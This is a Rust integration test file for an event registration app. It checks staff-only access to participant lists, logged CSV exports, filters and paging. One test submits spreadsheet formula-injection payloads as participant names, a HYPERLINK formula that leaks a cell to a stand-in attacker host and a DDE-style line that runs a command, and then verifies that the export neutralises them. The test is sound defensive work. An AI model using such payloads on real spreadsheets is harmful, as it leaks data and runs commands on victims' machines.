//! Staff see an event's participants and export them as CSV; every export is logged;
//! nobody else gets them.
#![allow(clippy::unwrap_used, clippy::expect_used)]
mod common;

use domain::types::Role;
use entities::exports;
use sea_orm::{EntityTrait, PaginatorTrait};

const SLUG: &str = "advocacy-with-asean-2016";

fn parse(body: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(body).unwrap();
    let text = text
        .strip_prefix('\u{feff}')
        .expect("UTF-8 byte-order mark for spreadsheets");
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn staff_export_the_participants_as_csv_and_the_export_is_logged() {
    let app = common::demo_app_at(2026, 11, 1).await;
    let anonymous = app
        .get(&format!("/manage/events/{SLUG}/participants.csv"), None)
        .await;
    assert_eq!(anonymous.status, 403);
    assert!(!anonymous.body.contains('@'));
    assert_eq!(exports::Entity::find().count(&app.db).await.unwrap(), 0);

    app.create_user("s@example.org", "staff-password-1", Role::Staff)
        .await;
    let cookie = app.login("s@example.org", "staff-password-1").await;
    let req = axum::http::Request::get(format!("/manage/events/{SLUG}/participants.csv"))
        .header("host", "127.0.0.1:3000")
        .header("sec-fetch-site", "same-origin")
        .header("cookie", &cookie)
        .body(axum::body::Body::empty())
        .unwrap();
    let res = tower::ServiceExt::oneshot(app.router.clone(), req)
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment"));
    let bytes = axum::body::to_bytes(res.into_body(), usize::MAX)
        .await
        .unwrap();
    let rows = parse(&bytes);
    let all = rows.len();
    assert!(all > 17, "trainees, facilitators and organisers");
    assert!(
        rows.iter()
            .any(|r| r[2].chars().any(|c| ('\u{1780}'..='\u{17FF}').contains(&c))),
        "Khmer names intact"
    );

    let trainees = app
        .get(
            &format!("/manage/events/{SLUG}/participants.csv?role=trainee"),
            Some(&cookie),
        )
        .await;
    assert_eq!(parse(trainees.body.as_bytes()).len(), 17, "the 17 trainees");

    let cambodia = app
        .get(
            &format!("/manage/events/{SLUG}/participants.csv?country=KH"),
            Some(&cookie),
        )
        .await;
    let kh = parse(cambodia.body.as_bytes());
    assert!(!kh.is_empty() && kh.len() < 17);
    assert!(kh.iter().all(|r| r[7] == "Cambodia"), "{kh:?}");

    let logged = exports::Entity::find().all(&app.db).await.unwrap();
    assert_eq!(logged.len(), 3);
    assert_eq!(logged[0].row_count as usize, all);
    assert_eq!(logged[1].row_count, 17);
    assert!(logged
        .iter()
        .all(|e| e.user_id.is_some() && e.kind == "participants_csv"));

    let bad = app
        .get(
            &format!("/manage/events/{SLUG}/participants.csv?status=nonsense"),
            Some(&cookie),
        )
        .await;
    assert_eq!(bad.status, 422);
}

#[tokio::test]
async fn the_participant_page_is_for_staff_only() {
    let app = common::demo_app_at(2026, 11, 1).await;
    let page = app
        .get(&format!("/manage/events/{SLUG}/participants"), None)
        .await;
    assert!(!page.body.contains("@example.org"));
    app.create_user("s@example.org", "staff-password-1", Role::Staff)
        .await;
    let cookie = app.login("s@example.org", "staff-password-1").await;
    let page = app
        .get(
            &format!("/manage/events/{SLUG}/participants?country=TH"),
            Some(&cookie),
        )
        .await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Thailand"));
    assert!(!page.body.contains("<td>Cambodia</td>"));
}

/// Names typed into the public form reach staff spreadsheets: a formula in one must arrive
/// as text (a leading `'`), never run when the export is opened.
#[tokio::test]
async fn formulas_typed_into_the_public_form_come_out_of_the_csv_as_text() {
    const OPEN: &str = "access-to-justice-2027";
    let app = common::demo_app_at(2026, 11, 23).await;
    let names = [
        (
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
            "f1@example.org",
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "f2@example.org"),
        ("+Thida Aung", "f3@example.org"),
        ("-Lwin", "f4@example.org"),
        ("Aye Aye Myint", "f5@example.org"),
    ];
    for (i, (name, email)) in names.iter().enumerate() {
        let key = format!("formula-submission-{i:04}");
        let fields = [
            ("slug", OPEN),
            ("form[name_latin]", name),
            ("form[email]", email),
            ("form[country_code]", "MM"),
            ("form[consent]", "on"),
            ("form[submission_key]", &key),
        ];
        let req = axum::http::Request::post("/api/register")
            .header("host", "127.0.0.1:3000")
            .header("accept", "text/html")
            .header(
                "referer",
                format!("http://127.0.0.1:3000/events/{OPEN}/register"),
            )
            .header("content-type", "application/x-www-form-urlencoded")
            .header("sec-fetch-site", "same-origin")
            .body(axum::body::Body::from(common::encode(&fields)))
            .unwrap();
        let reply = app.send(req).await;
        let location = reply.header("location").unwrap_or_default();
        assert!(!location.contains("error"), "{name}: {location}");
    }

    app.create_user("s@example.org", "staff-password-1", Role::Staff)
        .await;
    let cookie = app.login("s@example.org", "staff-password-1").await;
    let csv = app
        .get(
            &format!("/manage/events/{OPEN}/participants.csv"),
            Some(&cookie),
        )
        .await;
    assert_eq!(csv.status, 200);
    let rows = parse(csv.body.as_bytes());
    let name_of = |email: &str| {
        rows.iter()
            .find(|r| r[3] == email)
            .unwrap_or_else(|| panic!("{email} in {rows:?}"))[1]
            .clone()
    };
    for (name, email) in &names[..4] {
        assert_eq!(
            name_of(email),
            format!("'{name}"),
            "neutralised, rest intact"
        );
    }
    assert_eq!(
        name_of("f5@example.org"),
        "Aye Aye Myint",
        "a plain name unchanged"
    );
    assert!(
        rows.iter()
            .flatten()
            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "no cell starts a formula"
    );
}

/// A big event's table comes a page at a time with the filters kept; the exports still hold
/// everyone who matches.
#[tokio::test]
async fn the_participants_table_is_paged_keeping_the_filters() {
    use domain::attendance_types::WalkInForm;
    let app = common::demo_app_at(2026, 11, 1).await;
    app.create_user("s@example.org", "staff-password-1", Role::Staff)
        .await;
    let cookie = app.login("s@example.org", "staff-password-1").await;
    let staff = domain::service::users::list(&app.db)
        .await
        .unwrap()
        .into_iter()
        .find(|u| u.email == "s@example.org")
        .unwrap();
    let now = *app.now.lock().unwrap();
    let per_page = app::features::participants::pages::PAGE;
    let added = per_page + 30;
    for i in 0..added {
        let form = WalkInForm {
            name_latin: format!("Walk-in Person {i:04}"),
            country_code: "LA".into(),
            ..Default::default()
        };
        domain::service::attendance::walk_in(&app.db, SLUG, "2016-06-06", &form, staff.id, now)
            .await
            .unwrap();
    }
    let rows = |body: &str| {
        let tbody = &body[body.find("<tbody>").unwrap()..body.find("</tbody>").unwrap()];
        tbody.matches("<tr>").count()
    };
    let list = format!("/manage/events/{SLUG}/participants?country=LA");
    let first = app.get(&list, Some(&cookie)).await;
    assert_eq!(first.status, 200);
    assert_eq!(rows(&first.body), per_page);
    assert!(
        first.body.contains("country=LA&amp;page=2"),
        "the next page keeps the filter"
    );
    let second = app.get(&format!("{list}&page=2"), Some(&cookie)).await;
    let on_second = rows(&second.body);
    assert!(on_second >= 30 && on_second < per_page, "{on_second}");
    assert!(
        second
            .body
            .contains(&format!("<td class=\"num\">{}", per_page + 1)),
        "numbered on from the first page"
    );
    assert!(
        second.body.contains("participants.csv?country=LA\""),
        "the export is the whole filtered list"
    );
}
